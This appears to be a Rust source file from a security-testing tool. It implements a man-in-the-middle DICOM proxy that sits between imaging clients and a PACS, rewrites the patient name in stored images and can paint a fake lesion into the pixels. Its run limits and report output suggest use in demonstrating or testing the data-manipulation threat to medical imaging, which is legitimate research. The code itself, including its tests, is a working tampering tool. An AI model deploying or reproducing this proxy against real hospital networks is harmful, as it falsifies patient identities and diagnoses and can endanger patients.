//! `proxy`: an on-path DICOM proxy (the data-manipulation threat). It listens, connects each
//! client to the upstream PACS and forwards PDUs both ways. In P-DATA from the client, the
//! data set that follows a C-STORE-RQ is buffered until its last fragment, its top-level
//! PatientName (0010,0010) is replaced (element length recomputed; nothing else in the data
//! set changes), and it is re-fragmented into P-DATA-TF PDUs no larger than the upstream
//! accepted (A-ASSOCIATE-AC max length), each with its own PDV item length and PDU length.
//! With `tamper_pixels` it also paints a fake lesion into the image ([`crate::pixels`]).
//! Queries (C-FIND identifiers) and everything from the PACS pass untouched.
//!
//! Transfer syntaxes: Implicit and Explicit VR Little Endian encodings of the data set
//! (which includes JPEG and other encapsulated syntaxes: their data sets are Explicit VR
//! LE); Deflated and Big Endian data sets are forwarded untouched.
//!
//! Over DICOM TLS the proxy cannot read anything: when the client's first byte is a TLS
//! handshake record it copies the bytes both ways untouched and reports `tls_seen`.
//!
//! Bounded: at most [`MAX_ASSOCIATIONS_AT_ONCE`] associations at once, a data set buffered
//! up to [`MAX_BUFFERED`] bytes (larger: the association is aborted), every read under the
//! idle timeout, the whole run under `--max-secs`.

use super::raw;
use crate::dimse::{self, command};
use dicom_dictionary_std::{tags, uids};
use dicom_ul::Pdu;
use serde_json::{Value, json};
use std::collections::HashMap;
use std::future::Future;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

pub const MAX_ASSOCIATIONS_AT_ONCE: usize = 64;
pub const MAX_BUFFERED: usize = 512 << 20;
/// Fragment size used when the upstream announced no limit (max length 0).
const DEFAULT_FRAGMENT: u32 = 64 * 1024;

#[derive(Debug, Clone)]
pub struct ProxyOptions {
    pub listen: String,
    pub upstream: String,
    pub new_name: String,
    /// Also alter the image (a bright disc in the first frame).
    pub tamper_pixels: bool,
    pub max_time: Duration,
    pub idle_timeout: Duration,
}

#[derive(Default)]
struct Totals {
    associations: AtomicU64,
    rewritten: AtomicU64,
    pixels_tampered: AtomicU64,
    /// The first lesions painted (centre, radius, encoding), for the report.
    lesions: Mutex<Vec<Value>>,
    tls_seen: AtomicBool,
    original_names: Mutex<Vec<String>>,
    errors: Mutex<Vec<String>>,
}

// ---------------------------------------------------------------------------------------
// Data set surgery

fn u16le(b: &[u8], at: usize) -> Option<u16> {
    Some(u16::from_le_bytes(b.get(at..at + 2)?.try_into().ok()?))
}
fn u32le(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_le_bytes(b.get(at..at + 4)?.try_into().ok()?))
}

/// VRs with a 2-byte reserved field and a 4-byte length in Explicit VR.
fn long_vr(vr: &[u8]) -> bool {
    matches!(
        vr,
        b"OB"
            | b"OD"
            | b"OF"
            | b"OL"
            | b"OV"
            | b"OW"
            | b"SQ"
            | b"UC"
            | b"UN"
            | b"UR"
            | b"UT"
            | b"SV"
            | b"UV"
    )
}

/// One element header: (group, element, header length, value length (None = undefined),
/// offset of the length field, whether the length field is 2 bytes).
struct Header {
    group: u16,
    element: u16,
    header_len: usize,
    len: Option<u32>,
    len_at: usize,
    short: bool,
}

fn header(b: &[u8], at: usize, explicit: bool) -> Option<Header> {
    let group = u16le(b, at)?;
    let element = u16le(b, at + 2)?;
    // Item and delimitation tags have no VR in either encoding.
    if group == 0xFFFE || !explicit {
        let l = u32le(b, at + 4)?;
        return Some(Header {
            group,
            element,
            header_len: 8,
            len: (l != u32::MAX).then_some(l),
            len_at: at + 4,
            short: false,
        });
    }
    let vr = b.get(at + 4..at + 6)?;
    if long_vr(vr) {
        let l = u32le(b, at + 8)?;
        Some(Header {
            group,
            element,
            header_len: 12,
            len: (l != u32::MAX).then_some(l),
            len_at: at + 8,
            short: false,
        })
    } else {
        Some(Header {
            group,
            element,
            header_len: 8,
            len: Some(u32::from(u16le(b, at + 6)?)),
            len_at: at + 6,
            short: true,
        })
    }
}

/// Skip an undefined-length value (sequence or encapsulated pixel data) starting at `at`
/// (just after its header); returns the offset after its delimitation item.
fn skip_undefined(b: &[u8], mut at: usize, explicit: bool, depth: u32) -> Option<usize> {
    if depth > 16 {
        return None;
    }
    loop {
        let h = header(b, at, explicit)?;
        at += h.header_len;
        match (h.group, h.element) {
            (0xFFFE, 0xE0DD) => return Some(at), // sequence delimitation
            (0xFFFE, 0xE000) => match h.len {
                Some(l) => at = at.checked_add(l as usize)?,
                None => at = skip_item(b, at, explicit, depth + 1)?,
            },
            _ => return None,
        }
    }
}

/// Skip the elements of an undefined-length item until its delimitation.
fn skip_item(b: &[u8], mut at: usize, explicit: bool, depth: u32) -> Option<usize> {
    loop {
        let h = header(b, at, explicit)?;
        at += h.header_len;
        if (h.group, h.element) == (0xFFFE, 0xE00D) {
            return Some(at);
        }
        at = match h.len {
            Some(l) => at.checked_add(l as usize)?,
            None => skip_undefined(b, at, explicit, depth + 1)?,
        };
    }
}

/// Replace the value of the top-level PatientName in a Little Endian data set. Returns the
/// new data set and the old name, or `None` when there is no PatientName (or the data set
/// cannot be walked).
pub fn rewrite_patient_name(data: &[u8], explicit: bool, new: &str) -> Option<(Vec<u8>, String)> {
    let mut at = 0usize;
    while at < data.len() {
        let h = header(data, at, explicit)?;
        let tag = (h.group, h.element);
        if tag > (0x0010, 0x0010) {
            return None;
        }
        let value_at = at + h.header_len;
        if tag == (0x0010, 0x0010) {
            let len = h.len? as usize;
            let old = data.get(value_at..value_at + len)?;
            let old = String::from_utf8_lossy(old)
                .trim_end_matches([' ', '\0'])
                .to_string();
            let mut value = new.as_bytes().to_vec();
            if value.len() % 2 == 1 {
                value.push(b' ');
            }
            if h.short && value.len() > u16::MAX as usize {
                return None;
            }
            let mut out = Vec::with_capacity(data.len() + value.len());
            out.extend_from_slice(&data[..h.len_at]);
            if h.short {
                out.extend_from_slice(&(value.len() as u16).to_le_bytes());
            } else {
                out.extend_from_slice(&(value.len() as u32).to_le_bytes());
            }
            out.extend_from_slice(&data[h.len_at + if h.short { 2 } else { 4 }..value_at]);
            out.extend_from_slice(&value);
            out.extend_from_slice(&data[value_at + len..]);
            return Some((out, old));
        }
        at = match h.len {
            Some(l) => value_at.checked_add(l as usize)?,
            None => skip_undefined(data, value_at, explicit, 0)?,
        };
    }
    None
}

/// Split a data set into P-DATA-TF PDUs (one PDV each) of at most `max_pdu` bytes of
/// PDU body (the receiver's maximum length).
pub fn fragment(pc_id: u8, data: &[u8], max_pdu: u32) -> Vec<Vec<u8>> {
    let max_pdu = if max_pdu == 0 {
        DEFAULT_FRAGMENT
    } else {
        max_pdu
    };
    let chunk = (max_pdu.saturating_sub(6)).max(1) as usize;
    let mut out = Vec::new();
    let mut pieces: Vec<&[u8]> = data.chunks(chunk).collect();
    if pieces.is_empty() {
        pieces.push(&[]);
    }
    let n = pieces.len();
    for (i, p) in pieces.into_iter().enumerate() {
        let item_len = (p.len() + 2) as u32;
        let pdu_len = item_len + 4;
        let mut b = Vec::with_capacity(6 + pdu_len as usize);
        b.extend_from_slice(&[0x04, 0x00]);
        b.extend_from_slice(&pdu_len.to_be_bytes());
        b.extend_from_slice(&item_len.to_be_bytes());
        b.push(pc_id);
        b.push(if i + 1 == n { 0x02 } else { 0x00 }); // data set, last fragment?
        b.extend_from_slice(p);
        out.push(b);
    }
    out
}

// ---------------------------------------------------------------------------------------
// The proxy

/// What the client->upstream direction needs from the negotiation.
#[derive(Default)]
struct Negotiated {
    /// Presentation context id -> accepted transfer syntax.
    ts: HashMap<u8, String>,
    /// The upstream's maximum PDU length (what we may send it).
    upstream_max: u32,
}

async fn read_pdu<R: AsyncRead + Unpin>(
    r: &mut R,
    idle: Duration,
) -> Result<Option<Vec<u8>>, String> {
    let mut hdr = [0u8; 6];
    match tokio::time::timeout(idle, r.read_exact(&mut hdr)).await {
        Err(_) => return Err("idle timeout".into()),
        Ok(Err(e)) if e.kind() == std::io::ErrorKind::UnexpectedEof => return Ok(None),
        Ok(Err(e)) => return Err(e.to_string()),
        Ok(Ok(_)) => {}
    }
    let len = u32::from_be_bytes([hdr[2], hdr[3], hdr[4], hdr[5]]);
    if len as usize > MAX_BUFFERED {
        return Err(format!("PDU of {len} bytes is too large"));
    }
    let mut buf = vec![0u8; 6 + len as usize];
    buf[..6].copy_from_slice(&hdr);
    tokio::time::timeout(idle, r.read_exact(&mut buf[6..]))
        .await
        .map_err(|_| "idle timeout".to_string())?
        .map_err(|e| e.to_string())?;
    Ok(Some(buf))
}

/// Upstream -> client: forward untouched, learning the negotiation from the AC.
async fn downstream<R, W>(
    mut from: R,
    mut to: W,
    neg: Arc<Mutex<Negotiated>>,
    idle: Duration,
) -> Result<(), String>
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    while let Some(p) = read_pdu(&mut from, idle).await? {
        if p[0] == 0x02
            && let Ok(Pdu::AssociationAC(ac)) = raw::decode(&p)
        {
            let mut n = neg.lock().unwrap();
            for pc in &ac.presentation_contexts {
                if pc.reason == dicom_ul::pdu::PresentationContextResultReason::Acceptance {
                    n.ts.insert(pc.id, pc.transfer_syntax.trim_end_matches('\0').to_string());
                }
            }
            n.upstream_max = raw::max_length(&ac.user_variables).unwrap_or(0);
        }
        to.write_all(&p).await.map_err(|e| e.to_string())?;
    }
    let _ = to.shutdown().await;
    Ok(())
}

/// Client -> upstream: rewrite the data sets of C-STORE-RQs.
async fn upstream<R, W>(
    mut from: R,
    mut to: W,
    neg: Arc<Mutex<Negotiated>>,
    opts: Arc<ProxyOptions>,
    totals: Arc<Totals>,
) -> Result<(), String>
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    let mut command_buf: Vec<u8> = Vec::new();
    let mut rewrite_next = false;
    let mut data_buf: Vec<u8> = Vec::new();
    while let Some(p) = read_pdu(&mut from, opts.idle_timeout).await? {
        if p[0] != 0x04 {
            to.write_all(&p).await.map_err(|e| e.to_string())?;
            continue;
        }
        // Walk the PDVs of this P-DATA-TF.
        let mut at = 6usize;
        let mut passthrough: Vec<(u8, u8, &[u8])> = Vec::new();
        let mut modified = false;
        while at + 6 <= p.len() {
            let item_len = u32::from_be_bytes([p[at], p[at + 1], p[at + 2], p[at + 3]]) as usize;
            if item_len < 2 || at + 4 + item_len > p.len() {
                return Err("malformed PDV item in P-DATA-TF".into());
            }
            let pc = p[at + 4];
            let ctrl = p[at + 5];
            let value = &p[at + 6..at + 4 + item_len];
            at += 4 + item_len;
            let is_command = ctrl & 1 == 1;
            let is_last = ctrl & 2 == 2;
            if is_command {
                command_buf.extend_from_slice(value);
                if is_last {
                    rewrite_next = dimse::parse_command(&command_buf)
                        .ok()
                        .and_then(|c| dimse::get_u16(&c, tags::COMMAND_FIELD))
                        == Some(command::C_STORE_RQ);
                    command_buf.clear();
                }
                passthrough.push((pc, ctrl, value));
                continue;
            }
            if !rewrite_next {
                passthrough.push((pc, ctrl, value));
                continue;
            }
            // A data set to rewrite: flush what came before it, then buffer.
            modified = true;
            if !passthrough.is_empty() {
                send_pdvs(&mut to, &passthrough).await?;
                passthrough.clear();
            }
            data_buf.extend_from_slice(value);
            if data_buf.len() > MAX_BUFFERED {
                return Err(format!(
                    "a data set larger than {MAX_BUFFERED} bytes: association dropped"
                ));
            }
            if is_last {
                let (ts, max) = {
                    let n = neg.lock().unwrap();
                    (n.ts.get(&pc).cloned().unwrap_or_default(), n.upstream_max)
                };
                let explicit = match ts.as_str() {
                    uids::IMPLICIT_VR_LITTLE_ENDIAN => Some(false),
                    "1.2.840.10008.1.2.2" | uids::DEFLATED_EXPLICIT_VR_LITTLE_ENDIAN => None,
                    _ => Some(true),
                };
                let data = std::mem::take(&mut data_buf);
                let mut out =
                    match explicit.and_then(|e| rewrite_patient_name(&data, e, &opts.new_name)) {
                        Some((new, old)) => {
                            totals.rewritten.fetch_add(1, Ordering::SeqCst);
                            let mut names = totals.original_names.lock().unwrap();
                            if names.len() < 100 && !names.contains(&old) {
                                names.push(old);
                            }
                            new
                        }
                        None => data,
                    };
                if opts.tamper_pixels {
                    match crate::pixels::inject_lesion(&out, &ts) {
                        Ok((altered, lesion)) => {
                            out = altered;
                            totals.pixels_tampered.fetch_add(1, Ordering::SeqCst);
                            let mut lesions = totals.lesions.lock().unwrap();
                            if lesions.len() < 20 {
                                lesions.push(json!({
                                    "centre": [lesion.centre.0, lesion.centre.1],
                                    "radius": lesion.radius,
                                    "encoding": lesion.encoding,
                                }));
                            }
                        }
                        Err(why) => push_error(&totals, format!("image left as is: {why}")),
                    }
                }
                for pdu in fragment(pc, &out, max) {
                    to.write_all(&pdu).await.map_err(|e| e.to_string())?;
                }
                rewrite_next = false;
            }
        }
        if !modified {
            // Nothing of this PDU was rewritten or buffered: forward it as is.
            to.write_all(&p).await.map_err(|e| e.to_string())?;
        } else if !passthrough.is_empty() {
            send_pdvs(&mut to, &passthrough).await?;
        }
    }
    let _ = to.shutdown().await;
    Ok(())
}

/// Send PDVs (pc id, control header, value) as one P-DATA-TF.
async fn send_pdvs<W: AsyncWrite + Unpin>(
    to: &mut W,
    pdvs: &[(u8, u8, &[u8])],
) -> Result<(), String> {
    let body: usize = pdvs.iter().map(|(_, _, v)| 6 + v.len()).sum();
    let mut b = Vec::with_capacity(6 + body);
    b.extend_from_slice(&[0x04, 0x00]);
    b.extend_from_slice(&(body as u32).to_be_bytes());
    for (pc, ctrl, v) in pdvs {
        b.extend_from_slice(&((v.len() + 2) as u32).to_be_bytes());
        b.push(*pc);
        b.push(*ctrl);
        b.extend_from_slice(v);
    }
    to.write_all(&b).await.map_err(|e| e.to_string())
}

async fn handle(client: TcpStream, opts: Arc<ProxyOptions>, totals: Arc<Totals>) {
    let _ = client.set_nodelay(true);
    let server = match tokio::time::timeout(
        opts.idle_timeout,
        TcpStream::connect(opts.upstream.as_str()),
    )
    .await
    {
        Ok(Ok(s)) => s,
        Ok(Err(e)) => {
            push_error(&totals, format!("cannot connect to {}: {e}", opts.upstream));
            return;
        }
        Err(_) => {
            push_error(&totals, format!("no answer from {}", opts.upstream));
            return;
        }
    };
    let _ = server.set_nodelay(true);
    totals.associations.fetch_add(1, Ordering::SeqCst);
    // TLS? The first byte of a TLS ClientHello record is 0x16; a DICOM A-ASSOCIATE-RQ
    // starts with 0x01.
    let mut first = [0u8; 1];
    let peeked = tokio::time::timeout(opts.idle_timeout, client.peek(&mut first)).await;
    if matches!(peeked, Ok(Ok(1))) && first[0] == 0x16 {
        totals.tls_seen.store(true, Ordering::SeqCst);
        let (mut c, mut s) = (client, server);
        let r = tokio::time::timeout(opts.max_time, tokio::io::copy_bidirectional(&mut c, &mut s))
            .await;
        if let Ok(Err(e)) = r {
            push_error(&totals, format!("TLS pass-through: {e}"));
        }
        return;
    }
    let (cr, cw) = client.into_split();
    let (sr, sw) = server.into_split();
    let neg = Arc::new(Mutex::new(Negotiated::default()));
    let down = tokio::spawn(downstream(sr, cw, neg.clone(), opts.idle_timeout));
    let up = upstream(cr, sw, neg, opts.clone(), totals.clone()).await;
    if let Err(e) = up {
        push_error(&totals, format!("client -> upstream: {e}"));
        down.abort();
        return;
    }
    match tokio::time::timeout(opts.idle_timeout, down).await {
        Ok(Ok(Err(e))) => push_error(&totals, format!("upstream -> client: {e}")),
        Err(_) => push_error(&totals, "upstream -> client: idle timeout".into()),
        _ => {}
    }
}

fn push_error(t: &Totals, e: String) {
    let mut errs = t.errors.lock().unwrap();
    if errs.len() < 20 {
        errs.push(e);
    }
}

/// Run until `shutdown` or `max_time`. `emit` prints `{"event":"listening"}` first.
pub async fn run(
    opts: ProxyOptions,
    shutdown: impl Future<Output = ()>,
    emit: fn(&Value),
) -> Result<Value, String> {
    let listener = TcpListener::bind(opts.listen.as_str())
        .await
        .map_err(|e| format!("cannot listen on {}: {e}", opts.listen))?;
    let local = listener
        .local_addr()
        .map(|a| a.to_string())
        .unwrap_or_default();
    emit(&json!({"event": "listening", "listen": local, "upstream": opts.upstream}));
    let opts = Arc::new(opts);
    let totals = Arc::new(Totals::default());
    let permits = Arc::new(tokio::sync::Semaphore::new(MAX_ASSOCIATIONS_AT_ONCE));
    let mut tasks = tokio::task::JoinSet::new();
    let deadline = tokio::time::sleep(opts.max_time);
    tokio::pin!(deadline);
    tokio::pin!(shutdown);
    loop {
        let permit = tokio::select! {
            p = permits.clone().acquire_owned() => p.expect("semaphore closed"),
            _ = &mut shutdown => break,
            _ = &mut deadline => break,
        };
        let (sock, _) = tokio::select! {
            r = listener.accept() => match r {
                Ok(x) => x,
                Err(e) => {
                    push_error(&totals, format!("accept failed: {e}"));
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                }
            },
            _ = &mut shutdown => break,
            _ = &mut deadline => break,
        };
        let (o, t) = (opts.clone(), totals.clone());
        tasks.spawn(async move {
            handle(sock, o, t).await;
            drop(permit);
        });
        while tasks.try_join_next().is_some() {}
    }
    // Let associations in flight finish, briefly.
    let _ = tokio::time::timeout(Duration::from_secs(3), async {
        while tasks.join_next().await.is_some() {}
    })
    .await;
    tasks.abort_all();
    let rewritten = totals.rewritten.load(Ordering::SeqCst);
    let pixels_tampered = totals.pixels_tampered.load(Ordering::SeqCst);
    Ok(json!({
        "action": "proxy",
        "success": rewritten > 0 || pixels_tampered > 0,
        "associations": totals.associations.load(Ordering::SeqCst),
        "rewritten": rewritten,
        "pixels_tampered": pixels_tampered,
        "lesions": *totals.lesions.lock().unwrap(),
        "tls_seen": totals.tls_seen.load(Ordering::SeqCst),
        "new_patient_name": opts.new_name,
        "original_names": *totals.original_names.lock().unwrap(),
        "errors": *totals.errors.lock().unwrap(),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn synth(ts: crate::synth::Syntax) -> (Vec<u8>, String) {
        let spec = crate::synth::StudySpec {
            syntax: ts,
            rows: 8,
            cols: 8,
            ..Default::default()
        };
        let i = crate::synth::generate(&spec).unwrap().remove(0);
        (
            i.encode_dataset().unwrap(),
            i.transfer_syntax_uid.to_string(),
        )
    }

    #[test]
    fn rewrites_patient_name_explicit_and_implicit() {
        for syntax in [
            crate::synth::Syntax::ExplicitLe,
            crate::synth::Syntax::JpegBaseline,
        ] {
            let (data, ts) = synth(syntax);
            let (new, old) = rewrite_patient_name(&data, true, "ATTACKER^EVE").unwrap();
            assert_eq!(old, "DOE^JANE");
            let obj = crate::dimse::parse_dataset(&new, &ts).unwrap();
            assert_eq!(
                crate::dimse::get_str(&obj, tags::PATIENT_NAME).unwrap(),
                "ATTACKER^EVE"
            );
            assert_eq!(new.len(), data.len() + 4);
        }
        // Implicit VR: re-encode the same object.
        let (data, ts) = synth(crate::synth::Syntax::ExplicitLe);
        let obj = crate::dimse::parse_dataset(&data, &ts).unwrap();
        let implicit = crate::dimse::encode_dataset(&obj, uids::IMPLICIT_VR_LITTLE_ENDIAN).unwrap();
        let (new, _) = rewrite_patient_name(&implicit, false, "X^Y").unwrap();
        let obj = crate::dimse::parse_dataset(&new, uids::IMPLICIT_VR_LITTLE_ENDIAN).unwrap();
        assert_eq!(
            crate::dimse::get_str(&obj, tags::PATIENT_NAME).unwrap(),
            "X^Y"
        );
    }

    #[test]
    fn skips_undefined_length_sequences_before_the_name() {
        // (0008,1111) SQ undefined length with one undefined-length item holding (0008,1150)
        // then (0010,0010) PN.
        let mut d = Vec::new();
        d.extend_from_slice(&[
            0x08, 0, 0x11, 0x11, b'S', b'Q', 0, 0, 0xFF, 0xFF, 0xFF, 0xFF,
        ]);
        d.extend_from_slice(&[0xFE, 0xFF, 0x00, 0xE0, 0xFF, 0xFF, 0xFF, 0xFF]);
        d.extend_from_slice(&[0x08, 0, 0x50, 0x11, b'U', b'I', 4, 0, b'1', b'.', b'2', 0]);
        d.extend_from_slice(&[0xFE, 0xFF, 0x0D, 0xE0, 0, 0, 0, 0]);
        d.extend_from_slice(&[0xFE, 0xFF, 0xDD, 0xE0, 0, 0, 0, 0]);
        d.extend_from_slice(&[0x10, 0, 0x10, 0, b'P', b'N', 4, 0, b'A', b'^', b'B', b' ']);
        d.extend_from_slice(&[0x10, 0, 0x20, 0, b'L', b'O', 2, 0, b'I', b'D']);
        let (new, old) = rewrite_patient_name(&d, true, "EVE").unwrap();
        assert_eq!(old, "A^B");
        assert_eq!(
            &new[d.len() - 22..d.len() - 10],
            b"\x10\0\x10\0PN\x04\0EVE "
        );
        assert!(new.ends_with(&[0x10, 0, 0x20, 0, b'L', b'O', 2, 0, b'I', b'D']));
        // No PatientName: nothing to do.
        assert!(rewrite_patient_name(&d[..d.len() - 22], true, "EVE").is_none());
    }

    #[test]
    fn fragments_respect_max_pdu() {
        let data = vec![7u8; 10_000];
        let pdus = fragment(3, &data, 4096);
        assert_eq!(pdus.len(), 3);
        let mut back = Vec::new();
        for (i, p) in pdus.iter().enumerate() {
            let len = u32::from_be_bytes([p[2], p[3], p[4], p[5]]) as usize;
            assert_eq!(len + 6, p.len());
            assert!(len <= 4096);
            assert_eq!(p[10], 3);
            assert_eq!(p[11], if i == 2 { 2 } else { 0 });
            back.extend_from_slice(&p[12..]);
        }
        assert_eq!(back, data);
    }
}
